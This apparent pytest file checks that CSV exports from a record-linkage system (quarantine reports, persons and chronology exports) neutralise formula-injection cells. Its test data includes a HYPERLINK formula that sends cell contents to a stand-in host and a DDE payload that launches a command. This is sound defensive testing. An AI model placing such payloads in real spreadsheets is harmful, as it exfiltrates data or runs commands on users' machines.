"""CSV injection: every CSV a user may open neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import polars as pl

from core.spreadsheet_cells import neutralise, neutralise_frame

EVIL = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_each_trigger_is_prefixed_and_other_text_is_left_alone():
    assert [neutralise(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert [neutralise(v) for v in ("Sarah", "a=b", "", "O'Brien")] == ["Sarah", "a=b", "", "O'Brien"]
    frame = pl.DataFrame({"name": [*EVIL, "ok", None], "n": list(range(len(EVIL) + 2))})
    out = neutralise_frame(frame)
    assert out["name"].to_list() == ["'" + v for v in EVIL] + ["ok", None] and out["n"].to_list() == frame["n"].to_list()


def test_the_quarantine_report_and_the_persons_export_are_neutralised(store, tmp_path, monkeypatch):
    from ingest.drops import ingest_drop
    from linkage import export
    from tests.ingest.test_ingest import make_drop, row

    drop = make_drop(tmp_path / "d", {"police.csv": [row("police", record_id="=1+1", role="@bad", forename=EVIL[0])]})
    report = ingest_drop(store, drop)["quarantine_report"]
    cells = [c for r in csv.reader(open(report, encoding="utf-8")) for c in r]
    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    monkeypatch.setattr(export, "persons_frame", lambda store: pl.DataFrame(
        {"source": ["police"], "record_id": ["=cmd|' /C calc'!A0"], "person_id": ["MI-00000001B"],
         "link_probability": [0.5]}))
    export.export_persons(store, tmp_path / "persons.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "persons.csv").read_text())))
    assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[1][3] == "0.5"


def test_a_chronology_csv_neutralises_agency_text():
    from views import chronology_export as chronology

    chron = {"export": True, "person": {"person_id": "MI-00000001B"}, "events": [
        {c: None for c in chronology.CSV_COLUMNS} | {"event_type": "=1+1", "summary": "@x", "source": "police"}]}
    text = chronology.to_csv(chron)
    assert "'@x" in text
    assert "'=1+1" in text and ",=1+1" not in text
